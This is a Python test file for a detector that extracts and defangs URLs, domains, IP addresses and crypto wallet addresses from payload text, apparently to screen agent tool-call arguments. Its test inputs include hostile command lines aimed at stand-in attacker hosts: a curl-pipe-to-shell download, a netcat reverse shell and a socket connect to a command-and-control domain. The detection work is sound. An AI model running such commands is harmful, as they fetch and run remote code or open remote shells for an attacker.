"""Hosts and URLs in a payload's text are found, and nothing else."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.domain.network_values import CARRIERS, VALUES, defanged, network_values
from tests.each import each

BECH32 = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
BASE58 = "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"


def values(text, name="arguments"):
    return {(value.kind, value.value) for value in network_values({name: text})}


@each(
    ("text", "expected"),
    [
        (
            "('curl http://203.0.113.9/x.sh | sh',)",
            {("url", "http://203.0.113.9/x.sh"), ("ipv4-addr", "203.0.113.9")},
        ),
        (
            "get('https://user:pw@cdn.evil.example:8443/a?b=1').",
            {("url", "https://cdn.evil.example:8443/a?b=1"), ("domain", "cdn.evil.example")},
        ),
        (
            "see (https://evil.example/a).",
            {("url", "https://evil.example/a"), ("domain", "evil.example")},
        ),
        ("s.connect(('c2.evil.example', 4444))", {("domain", "c2.evil.example")}),
        ("connect 198.51.100.7:4444 now", {("ipv4-addr", "198.51.100.7")}),
        ("ping -c 1 c2.evil.example", {("domain", "c2.evil.example")}),
        ("nc -e /bin/sh 203.0.113.9 4444", {("ipv4-addr", "203.0.113.9")}),
        ("nc 203.0.113.9 4444", {("ipv4-addr", "203.0.113.9")}),
        (f"pay {BECH32} or {BASE58}", {("wallet", BECH32), ("wallet", BASE58)}),
        ("0x" + "aB" * 20, {("wallet", "0x" + "aB" * 20)}),
        (f"{BECH32[:-1]}x {BASE58[:-1]}3", set()),
        ("posix.system torch.nn.Linear archive/data.pkl numpy 2.3.4.5", set()),
        ("setup.py:12 weights.bin:4096 run.sh:80", set()),
        ("http://localhost:8080/x http://10.0.0.3/y http://127.0.0.1/z http://svc/q", set()),
        ("http://0.0.0.0/x http://169.254.169.254/latest", set()),
    ],
)
def test_addresses_are_found_and_other_dots_are_not(text, expected):
    assert values(text) == expected


def test_only_text_of_the_payload_is_read():
    for name in CARRIERS:
        assert values("http://evil.example/", name)
    assert not values("http://evil.example/", "expected")
    assert network_values({"arguments": 3}) == ()


def test_a_host_that_many_use_is_marked_and_its_url_is_not():
    found = {value.kind: value for value in network_values({"code": "https://github.com/evil/x"})}
    assert found["domain"].well_known
    assert not found["url"].well_known


def test_number_of_values_is_bounded():
    text = " ".join(f"http://h{number}.evil.example/" for number in range(500))
    assert len(network_values({"text": text})) == VALUES


@given(st.text(max_size=400))
def test_any_text_is_read(text):
    for value in network_values({"code": text}):
        assert value.value
        assert value.kind == "wallet" or defanged(value.value) != value.value


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("https://cdn.evil.example/a.b", "hxxps://cdn[.]evil[.]example/a.b"),
        ("tcp://c2.evil.example", "tcp[:]//c2[.]evil[.]example"),
        ("evil.example", "evil[.]example"),
        ("203.0.113.9", "203[.]0[.]113[.]9"),
    ],
)
def test_shown_values_are_defanged(value, shown):
    assert defanged(value) == shown
